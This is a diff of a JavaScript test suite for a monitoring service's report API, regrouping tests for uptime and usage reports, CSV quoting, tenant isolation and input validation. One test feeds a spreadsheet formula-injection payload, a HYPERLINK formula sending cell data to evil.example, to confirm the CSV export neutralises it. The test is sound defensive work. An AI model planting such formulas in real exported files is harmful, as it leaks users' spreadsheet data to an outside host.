@@ -57,120 +57,124 @@ describe.each(backends)('reports on %s', (backend) => {
 
   const november = { period_start: '2026-11-01T00:00:00Z', period_end: '2026-12-01T00:00:00Z' };
 
-  it('builds an uptime report over exactly the period, as JSON', async () => {
-    const file = await build({ kind: 'uptime', ...november });
-    expect(file.headers['content-type']).toContain('application/json');
-    const body = file.json();
-    expect(body.rows).toEqual([
-      {
-        monitor_id: monitorId,
-        name: 'Edge, "quoted"',
-        url: 'https://127.0.0.1:9/',
-        checks: 3,
-        up_checks: 2,
-        uptime_pct: 66.667,
-        p50_ms: 200,
-        p95_ms: 290,
-      },
-    ]);
-  });
+  describe('downloadReport · GET /api/reports/:id/download/', () => {
+    it('builds an uptime report over exactly the period, as JSON', async () => {
+      const file = await build({ kind: 'uptime', ...november });
+      expect(file.headers['content-type']).toContain('application/json');
+      const body = file.json();
+      expect(body.rows).toEqual([
+        {
+          monitor_id: monitorId,
+          name: 'Edge, "quoted"',
+          url: 'https://127.0.0.1:9/',
+          checks: 3,
+          up_checks: 2,
+          uptime_pct: 66.667,
+          p50_ms: 200,
+          p95_ms: 290,
+        },
+      ]);
+    });
 
-  it('builds the same as CSV with proper quoting', async () => {
-    const file = await build({ kind: 'uptime', ...november, format: 'csv' });
-    expect(file.headers['content-type']).toContain('text/csv');
-    expect(file.headers['content-disposition']).toMatch(/attachment; filename="rpt_.*-uptime\.csv"/);
-    expect(file.body).toBe(
-      `monitor_id,name,url,checks,up_checks,uptime_pct,p50_ms,p95_ms\r\n${monitorId},"Edge, ""quoted""",https://127.0.0.1:9/,3,2,66.667,200,290\r\n`,
-    );
-  });
+    it('builds the same as CSV with proper quoting', async () => {
+      const file = await build({ kind: 'uptime', ...november, format: 'csv' });
+      expect(file.headers['content-type']).toContain('text/csv');
+      expect(file.headers['content-disposition']).toMatch(/attachment; filename="rpt_.*-uptime\.csv"/);
+      expect(file.body).toBe(
+        `monitor_id,name,url,checks,up_checks,uptime_pct,p50_ms,p95_ms\r\n${monitorId},"Edge, ""quoted""",https://127.0.0.1:9/,3,2,66.667,200,290\r\n`,
+      );
+    });
 
-  it('counts usage per UTC day and lists scans inside the period only', async () => {
-    const usage = (
-      await build({ kind: 'usage', period_start: '2026-11-30T00:00:00Z', period_end: '2026-12-01T00:00:00.001Z' })
-    ).json();
-    expect(usage.rows).toEqual([
-      { day: '2026-11-30', scans: 0, monitor_checks: 1 },
-      { day: '2026-12-01', scans: 1, monitor_checks: 1 },
-    ]);
-    const scans = (await build({ kind: 'scans', ...november })).json();
-    expect(scans.rows).toEqual([
-      {
-        scan_id: 'scn_edge1',
-        url: 'https://a.example/',
-        status: 'completed',
-        language: 'en',
-        trackers: 2,
-        created_at: '2026-11-01T00:00:00.000Z',
-      },
-    ]);
-  });
+    it('counts usage per UTC day and lists scans inside the period only', async () => {
+      const usage = (
+        await build({ kind: 'usage', period_start: '2026-11-30T00:00:00Z', period_end: '2026-12-01T00:00:00.001Z' })
+      ).json();
+      expect(usage.rows).toEqual([
+        { day: '2026-11-30', scans: 0, monitor_checks: 1 },
+        { day: '2026-12-01', scans: 1, monitor_checks: 1 },
+      ]);
+      const scans = (await build({ kind: 'scans', ...november })).json();
+      expect(scans.rows).toEqual([
+        {
+          scan_id: 'scn_edge1',
+          url: 'https://a.example/',
+          status: 'completed',
+          language: 'en',
+          trackers: 2,
+          created_at: '2026-11-01T00:00:00.000Z',
+        },
+      ]);
+    });
 
-  it('neutralises text cells a spreadsheet would run as formulas, keeping numbers numeric', async () => {
-    const owner = await t.tenantWithKey('business');
-    const names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', 'Plain'];
-    for (const name of names) {
-      const created = await t.inject({
+    it('neutralises text cells a spreadsheet would run as formulas, keeping numbers numeric', async () => {
+      const owner = await t.tenantWithKey('business');
+      const names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', 'Plain'];
+      for (const name of names) {
+        const created = await t.inject({
+          method: 'POST',
+          url: '/api/monitors/',
+          token: owner.token,
+          payload: { name, target: { type: 'url', url: 'https://127.0.0.1:9/' }, interval_seconds: 60 },
+        });
+        expect(created.statusCode, created.body).toBe(201);
+      }
+      const queued = await t.inject({
         method: 'POST',
-        url: '/api/monitors/',
+        url: '/api/reports/',
         token: owner.token,
-        payload: { name, target: { type: 'url', url: 'https://127.0.0.1:9/' }, interval_seconds: 60 },
+        payload: { kind: 'uptime', ...november, format: 'csv' },
       });
-      expect(created.statusCode, created.body).toBe(201);
-    }
-    const queued = await t.inject({
-      method: 'POST',
-      url: '/api/reports/',
-      token: owner.token,
-      payload: { kind: 'uptime', ...november, format: 'csv' },
+      while (await t.app.services.reports.runNext());
+      const file = await t.inject({
+        method: 'GET',
+        url: `/api/reports/${queued.json().id}/download/`,
+        token: owner.token,
+      });
+      const nameCells = file.body
+        .split('\r\n')
+        .slice(1, -1)
+        .map((line) => line.split(',https://')[0].split(',').slice(1).join(','));
+      expect(nameCells.sort()).toEqual(
+        [`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`, "'+1+2", "'-2+3", "'@SUM(A1:A2)", 'Plain'].sort(),
+      );
     });
-    while (await t.app.services.reports.runNext());
-    const file = await t.inject({
-      method: 'GET',
-      url: `/api/reports/${queued.json().id}/download/`,
-      token: owner.token,
+
+    it("does not show another tenant's report", async () => {
+      const other = await t.tenantWithKey('pro');
+      const mine = (await t.inject({ method: 'GET', url: '/api/reports/', token: tenant.token })).json().results[0];
+      expect(
+        (await t.inject({ method: 'GET', url: `/api/reports/${mine.id}/download/`, token: other.token })).statusCode,
+      ).toBe(404);
     });
-    const nameCells = file.body
-      .split('\r\n')
-      .slice(1, -1)
-      .map((line) => line.split(',https://')[0].split(',').slice(1).join(','));
-    expect(nameCells.sort()).toEqual(
-      [`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`, "'+1+2", "'-2+3", "'@SUM(A1:A2)", 'Plain'].sort(),
-    );
   });
 
-  it.each([
-    [
-      'a reversed period',
-      { kind: 'uptime', period_start: '2026-12-01T00:00:00Z', period_end: '2026-11-01T00:00:00Z' },
-      'period_reversed',
-    ],
-    [
-      'an empty period',
-      { kind: 'uptime', period_start: '2026-12-01T00:00:00Z', period_end: '2026-12-01T00:00:00Z' },
-      'period_reversed',
-    ],
-    [
-      'a period over 366 days',
-      { kind: 'uptime', period_start: '2024-01-01T00:00:00Z', period_end: '2026-01-01T00:00:00Z' },
-      'period_too_long',
-    ],
-    ['an unknown kind', { kind: 'revenue', ...november }, 'invalid_parameter'],
-    [
-      'a date that is not a date-time',
-      { kind: 'uptime', period_start: '2026-11-01', period_end: '2026-12-01T00:00:00Z' },
-      'invalid_parameter',
-    ],
-  ])('refuses %s', async (_name, payload, code) => {
-    const response = await t.inject({ method: 'POST', url: '/api/reports/', token: tenant.token, payload });
-    expect(response.statusCode).toBe(400);
-    expect(response.json().error.code).toBe(code);
-  });
-
-  it("does not show another tenant's report", async () => {
-    const other = await t.tenantWithKey('pro');
-    const mine = (await t.inject({ method: 'GET', url: '/api/reports/', token: tenant.token })).json().results[0];
-    expect(
-      (await t.inject({ method: 'GET', url: `/api/reports/${mine.id}/download/`, token: other.token })).statusCode,
-    ).toBe(404);
+  describe('createReport · POST /api/reports/', () => {
+    it.each([
+      [
+        'a reversed period',
+        { kind: 'uptime', period_start: '2026-12-01T00:00:00Z', period_end: '2026-11-01T00:00:00Z' },
+        'period_reversed',
+      ],
+      [
+        'an empty period',
+        { kind: 'uptime', period_start: '2026-12-01T00:00:00Z', period_end: '2026-12-01T00:00:00Z' },
+        'period_reversed',
+      ],
+      [
+        'a period over 366 days',
+        { kind: 'uptime', period_start: '2024-01-01T00:00:00Z', period_end: '2026-01-01T00:00:00Z' },
+        'period_too_long',
+      ],
+      ['an unknown kind', { kind: 'revenue', ...november }, 'invalid_parameter'],
+      [
+        'a date that is not a date-time',
+        { kind: 'uptime', period_start: '2026-11-01', period_end: '2026-12-01T00:00:00Z' },
+        'invalid_parameter',
+      ],
+    ])('refuses %s', async (_name, payload, code) => {
+      const response = await t.inject({ method: 'POST', url: '/api/reports/', token: tenant.token, payload });
+      expect(response.statusCode).toBe(400);
+      expect(response.json().error.code).toBe(code);
+    });
   });
 });
